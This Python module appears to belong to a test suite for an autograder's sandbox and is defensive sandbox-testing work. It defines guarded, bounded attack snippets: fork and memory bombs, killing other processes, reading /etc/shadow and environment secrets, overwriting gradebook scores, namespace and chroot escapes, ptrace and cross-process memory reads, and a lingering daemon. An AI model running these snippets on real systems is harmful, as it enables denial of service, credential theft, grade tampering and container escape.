"""Attacks on the machine: its time, memory, processes, disk, files and network.

Every attack here looks for the sandbox before it does harm (kit.GUARD), and every bomb has a bound of its own, so that
a developer whose sandbox does not work loses a test and not a machine.
"""

from __future__ import annotations

from typing import Any

from grading_attacks.kit import RIGHT_VALUE, Attack, inside, stealing

STUBBORN = """
import time, threading
for number in range(1, 65):
    attempt(signal.signal, number, signal.SIG_IGN)
attempt(signal.pthread_sigmask, signal.SIG_BLOCK, range(1, 65))
signal.setitimer = signal.alarm = lambda *a: 0
"""
NEVER = """\
while True:
    try:
        while True:
            pass
    except BaseException:
        continue"""
REGEX = "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')"
MIB = 2**20
UNLIMIT = """
import resource
attempt(lambda: open("/proc/self/oom_score_adj", "w").write("0"))  # let another one be ended in its place
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        attempt(resource.setrlimit, getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
"""
# three times what a notebook may have in the test's settings, so that a bomb without a sandbox ends by itself
BOMB = f"""
blocks = []
for _ in range(90):
    blocks.append(bytearray(b"x" * (64 * {MIB})))
"""
MANY = """
for _ in range(24):
    if os.fork() == 0:
        block = bytearray(b"x" * (256 * 2**20))
        time.sleep(15)
        os._exit(0)
time.sleep(3)
"""
# all others are honest, and graded beside it
BURN = """
for _ in range(100):
    if os.fork() == 0:
        ends = time.monotonic() + 8
        while time.monotonic() < ends:
            pass
        os._exit(0)
"""
MEMFD = f"""
for number in range(8):
    fd = os.memfd_create("bomb")
    for _ in range(12):
        os.write(fd, b"x" * (64 * {MIB}))
"""
FILL = """
count = 0
for folder in FOLDERS:
    for number in range(4):
        with open(os.path.join(folder, f"filling-{NAME}-{number}"), "wb") as file:
            for _ in range(24):
                file.write(b"x" * (64 * 2**20))
                count += 1
"""
FORKS = """
def bomb():
    for _ in range(3000):
        try:
            if os.fork() == 0:
                time.sleep(15)
                os._exit(0)
        except OSError:
            time.sleep(0.01)
"""
THREADS = """
def bomb():
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(15,), daemon=True).start()
"""
ENDLESS = """
for _ in range(3):
    if os.fork() == 0:
        ends = time.monotonic() + 120
        while time.monotonic() < ends:
            os.write(1, b"x" * 65536)
        os._exit(0)
"""
DAEMON = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in range(3):
            os.dup2(null, fd)
        os.closerange(3, 256)
        os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(900)", HOST["token"] + NAME])
    os._exit(0)
"""
KILL = """
for target in TARGETS:
    attempt(os.kill, target, signal.SIGKILL)
"""
KILL_PARENT = "TARGETS = [os.getppid(), 1, -1 * os.getpgid(0)]" + KILL
KILL_ALL = "TARGETS = [-1]" + KILL
KILL_THE_REST = """
def visible():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
""" + KILL.replace("TARGETS", "visible()")

NETWORK = """
found = []
def tcp(address):
    with socket.create_connection(tuple(address), timeout=1) as link:
        link.sendall(NAME.encode())
        found.append(address)
def udp(address):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(NAME.encode(), tuple(address))
def unix(address):
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(1)
    link.connect(address)
    link.sendall(NAME.encode())
    found.append(address)
for family, address in HOST["listeners"]:
    attempt({"tcp": tcp, "udp": udp, "unix": unix, "abstract": lambda a: unix("\\0" + a)}[family], address)
for address in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    attempt(unix, address)
attempt(tcp, ("127.0.0.1", 22))
leak("the network", found)
leak("a name", attempt(socket.gethostbyname, "example.org"))
leak("interfaces", [name for _, name in socket.if_nameindex() if name != "lo"])
def vsock():
    link = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    link.settimeout(1)
    link.connect((2, 22))
    return "connected"
leak("the virtual machine's host", attempt(vsock))
"""
READ = """
def text(path):
    if os.path.isfile(path) and not os.path.islink(path):
        with open(path, "rb") as file:
            return file.read(300)
home = os.path.expanduser("~")
for path in HOST["private files"]:
    leak("a private file", attempt(text, path))
for folder in [COURSE, *map(str, Path(COURSE).parents)][:-1]:
    leak("a folder of the course", attempt(os.listdir, folder) if "attack" in folder else None)
for name in ("gradebook.db", "grading_secret", "../solutions", "submitted", "autograded", "../nbgrader_config.py"):
    for base in (os.path.join(COURSE, "course"), os.getcwd(), "../../..", "/work", home):
        path = os.path.join(base, name)
        if "grad" in name or base.startswith(COURSE):
            leak("what belongs to the course", attempt(text, path) or attempt(os.listdir, path))
shadow = (attempt(lambda: open("/etc/shadow").read()) or "").splitlines()
leak("password hashes", [line for line in shadow if ":$" in line])
for path in ["/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ"]:
    data = attempt(lambda: open(path, "rb").read()) or b""
    leak("the environment in " + path, HOST["secret variable"].encode() in data)
leak("the environment", os.environ.get(HOST["secret variable"]))
leak("the host's name", HOST["hostname"] == socket.gethostname() or None)
"""
PROC = """
import glob
for process in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps"):
        data = attempt(lambda: open(os.path.join(process, name), "rb").read()) or b""
        leak(process, COURSE.encode() in data)
        leak(process, HOST["secret variable"].encode() in data)
    for link in glob.glob(process + "/fd/*") + [process + "/cwd", process + "/root"]:
        target = attempt(os.readlink, link) or ""
        leak("an open file of the grader " + link, target if target.startswith(COURSE) else None)
        data = attempt(lambda: open(link + "/etc/shadow").read()) if link.endswith("/root") else None
        leak("the root of another process", ":$" in (data or ""))
leak("processes of the host", len(glob.glob("/proc/[0-9]*")) > 100)
leak("the sandbox's command line", COURSE.encode() in (attempt(lambda: open("/proc/1/cmdline", "rb").read()) or b""))
for path in ("/proc/mounts", "/proc/self/mountinfo", "/proc/self/cgroup"):
    leak("the course's place in " + path, COURSE in (attempt(lambda: open(path).read()) or ""))
"""
WRITE = """
import glob, sqlite3
def alter():
    base = sqlite3.connect(os.path.join(COURSE, "course", "gradebook.db"), timeout=1)
    base.execute("UPDATE grade SET auto_score = 99, manual_score = 99")
    base.commit()
attempt(alter)
for path in HOST["private files"]:
    attempt(lambda: open(path, "a").write("written by " + NAME))
folders = [COURSE, "/etc", "/usr/lib", sys.prefix, os.path.dirname(os.__file__), HOST["home"], HOST["cache"], "/var"]
for folder in folders:
    path = os.path.join(folder, "written-by-" + NAME)
    attempt(lambda: open(path, "w").write("x"))
import numpy, torch, lecturekit
for module in (numpy, torch, lecturekit):
    leak("a package can be changed", attempt(lambda: open(module.__file__, "a").close() or module.__file__))
"""
ESCAPE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def can(name, *arguments):
    return getattr(libc, name)(*arguments) == 0
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
if os.fork() == 0:
    attempt(libc.unshare, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET)
    attempt(libc.unshare, CLONE_NEWNS)
    for source, target, kind in ((b"proc", b"/proc", b"proc"), (b"/", b"/mnt", b""), (b"sysfs", b"/sys", b"sysfs")):
        attempt(libc.mount, source, target, kind, 4096 if not kind else 0, None)
    for path in (b"/", b"/tmp", b"/usr", b"/proc", b"/dev", b"/home", COURSE.encode()):
        attempt(libc.mount, b"none", path, b"", 32 | 4096, None)  # remount, writable
        attempt(libc.umount2, path, 2)
    for number in range(3, 300):
        for name in (f"/proc/{number}/root", f"/proc/{number}/cwd"):
            attempt(os.chroot, name)
    for _ in range(20):
        attempt(os.chdir, "..")
    attempt(os.chroot, ".")
    leak("the course, from a nested namespace", os.path.exists(COURSE))
    leak("a hidden file, from a nested namespace", [p for p in HOST["private files"] if os.path.exists(p)])
    attempt(os.mkdir, "/tmp/device")
    attempt(os.mknod, "/tmp/device/disk", 0o60666, os.makedev(8, 0))
    attempt(os.mknod, "/tmp/device/disk2", 0o60666, os.makedev(254, 0))
    for disk in ("/tmp/device/disk", "/tmp/device/disk2", "/dev/mem", "/dev/kmem", "/proc/kcore"):
        leak("a disk " + disk, attempt(lambda: open(disk, "rb").read(16)))
    os._exit(0)
os.wait()
import shutil
bwrap = shutil.which("bwrap")
if bwrap:
    leak("bubblewrap within", attempt(lambda: subprocess.run(
        [bwrap, "--bind", "/", "/", "ls", COURSE], capture_output=True, timeout=5).stdout))
import fcntl, termios
for fd in range(3):
    attempt(fcntl.ioctl, fd, termios.TIOCSTI, b"x")
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
    leak("a switch of the kernel " + path, attempt(lambda: os.open(path, os.O_WRONLY)))
for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/memory/tasks"):
    attempt(lambda: open(path, "w").write(str(os.getpid())))
"""
PTRACE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
own = {os.getpid(), int(os.readlink("/proc/self"))}
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in own:
        pid = int(name)
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            leak("another process can be traced", open(f"/proc/{pid}/cmdline").read())
            libc.ptrace(17, pid, None, None)
        leak("another process's memory", attempt(lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)) or pid))
def vm_read():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    for pid in [p for p in map(str, range(1, 50)) if os.path.exists("/proc/" + p) and int(p) not in own]:
        start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
        target = ctypes.create_string_buffer(16)
        here, there = Vector(ctypes.addressof(target), 16), Vector(start, 16)
        if libc.process_vm_readv(int(pid), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            return pid
leak("another process's memory, read", attempt(vm_read))
def take_descriptors():
    for pid in range(1, 50):
        if pid not in own and os.path.exists(f"/proc/{pid}"):
            opened = attempt(os.pidfd_open, pid)
            for fd in range(64):
                taken = libc.syscall(438, opened, fd, 0) if opened else -1  # pidfd_getfd
                if taken >= 0:
                    return pid, fd
leak("a descriptor of another process", attempt(take_descriptors))
"""
# looks for what an earlier notebook left, also this one when it ran before, and leaves the same
LEAVE = """
import ctypes, platform
libc = ctypes.CDLL(None)
folders = ["/", "/tmp", "/dev", "/dev/shm", "/var/tmp", "/run", "/etc", "/course", os.getcwd(), os.path.expanduser("~")]
for folder in {*folders, *filter(None, sys.path), *map(str, Path(sys.prefix).parents)}:
    leak("what another student left", [p for p in attempt(os.listdir, folder) or () if "left-by" in p])
for folder in folders + sys.path:
    attempt(lambda: open(os.path.join(folder, "left-by-" + NAME), "w").write("x"))
for shared in (libc.shmget(0x1EF7, 4096, 0), libc.semget(0x1EF7, 1, 0), libc.msgget(0x1EF7, 0)):
    leak("System V memory of another student", shared >= 0)
libc.shmget(0x1EF7, 4096, 0o1666), libc.semget(0x1EF7, 1, 0o1666), libc.msgget(0x1EF7, 0o1666)
leak("a message queue of another student", libc.mq_open(b"/left-by", os.O_RDWR) >= 0)
libc.mq_open(b"/left-by", os.O_RDWR | os.O_CREAT, 0o666, None)
add_key, request_key, keyctl = (248, 249, 250) if platform.machine() == "x86_64" else (217, 218, 219)
for ring in (-3, -4, -5):
    for name in (b"left-by-a-student", b"of-the-instructor"):
        leak("a key of another", libc.syscall(keyctl, 10, ring, b"user", name, 0) > 0)  # search
    leak("a key can be left", libc.syscall(add_key, b"user", b"left-by-a-student", b"x", 1, ring) > 0)
"""


def inside_merge(name: str, action: str, top: str = "pass", then: str = "return weight.clone()", **rest: Any) -> Attack:
    """Harm done while merge is judged: its points are lost, all others are kept."""
    guarded = "if not jailed():\n    raise RuntimeError('only for the sandbox')\n" + action
    return stealing(name, top, inside(guarded, then), dangerous=True, **rest)


def in_a_cell(name: str, top: str, **rest: Any) -> Attack:
    """Harm done in a cell of the student's own, above honest answers: all points are kept."""
    return Attack(name, top, dangerous=True, **rest)


ATTACKS = [
    inside_merge("loops_inside", "while True:\n    pass"),
    inside_merge("loops_stubbornly_inside", NEVER, STUBBORN),
    inside_merge("stays_in_c_inside", REGEX),
    inside_merge("stops_itself_inside", "os.kill(os.getpid(), signal.SIGSTOP)"),
    inside_merge("waits_for_input_inside", "input('?')\nsys.stdin.read()\nopen('/dev/tty').read()"),
    in_a_cell("loops", "while True:\n    pass"),
    in_a_cell("loops_stubbornly", STUBBORN + NEVER),
    in_a_cell("waits_for_input", "input('?')"),
    in_a_cell("stops_itself", "sys.stdout.flush()\nos.kill(os.getpid(), signal.SIGSTOP)", silent=True),
    inside_merge("dies_inside", "os._exit(0)"),
    inside_merge("aborts_inside", "os.abort()"),
    inside_merge("crashes_inside", "import ctypes\nctypes.string_at(0)"),
    inside_merge("kills_itself_inside", "os.kill(os.getpid(), signal.SIGKILL)"),
    inside_merge("kills_its_parent_inside", KILL_PARENT),
    inside_merge("kills_all_inside", KILL_ALL),
    inside_merge("kills_what_it_sees_inside", KILL_THE_REST),
    in_a_cell("dies", "sys.stdout.flush()\nos._exit(0)", silent=True),
    in_a_cell("crashes", "sys.stdout.flush()\nimport ctypes\nctypes.string_at(0)", silent=True),
    in_a_cell("kills_its_parent", KILL_PARENT, silent=True),
    in_a_cell("kills_all", KILL_ALL, silent=True),
    in_a_cell("kills_what_it_sees", KILL_THE_REST, silent=True),
    inside_merge("takes_all_memory_inside", BOMB),
    in_a_cell("takes_all_memory_after_lifting_its_limits", UNLIMIT + BOMB, silent=True),
    in_a_cell("takes_memory_in_many_processes", UNLIMIT + MANY, silent=True, sabotage=True),
    in_a_cell("burns_the_processors", BURN, sabotage=True),
    in_a_cell("takes_memory_without_a_process", MEMFD, silent=True),
    inside_merge("bombs_with_forks_inside", "bomb()", FORKS),
    in_a_cell("bombs_with_forks", FORKS + "bomb()", silent=True),
    in_a_cell("bombs_with_threads", THREADS + "bomb()", silent=True),
    in_a_cell("fills_tmp", "FOLDERS = ['/tmp', os.getcwd()]" + FILL, silent=True),
    in_a_cell("fills_shared_memory", "FOLDERS = ['/dev/shm']" + FILL, silent=True),
    in_a_cell("prints_a_gigabyte", "for _ in range(1024):\n    print('x' * 2**20)", silent=True),
    in_a_cell("writes_a_gigabyte", "for _ in range(1024):\n    os.write(1, b'x\\n' * 2**19)", silent=True),
    in_a_cell("writes_without_end", ENDLESS, silent=True),
    in_a_cell("shows_ten_thousand_things", "for number in range(10000):\n    display(number)", silent=True),
    inside_merge(
        "prints_a_gigabyte_inside",
        "for _ in range(1024):\n    os.write(1, b'x' * 2**20)",
        then=RIGHT_VALUE,
        earned={"merge-test": 15},
    ),
    in_a_cell("leaves_a_process", DAEMON),
    inside_merge("leaves_a_process_inside", DAEMON, then=RIGHT_VALUE, earned={"merge-test": 15}),
    in_a_cell("uses_the_network", NETWORK),
    inside_merge("uses_the_network_inside", NETWORK, then=RIGHT_VALUE, earned={"merge-test": 15}),
    in_a_cell("reads_what_is_private", READ),
    in_a_cell("looks_around_in_proc", PROC),
    in_a_cell("writes_where_it_can", WRITE),
    in_a_cell("nests_namespaces", ESCAPE),
    in_a_cell("traces_processes", PTRACE),
    in_a_cell("leaves_files", LEAVE),
    in_a_cell("leaves_files_too", LEAVE),
    in_a_cell("lifts_its_limits", UNLIMIT),
]
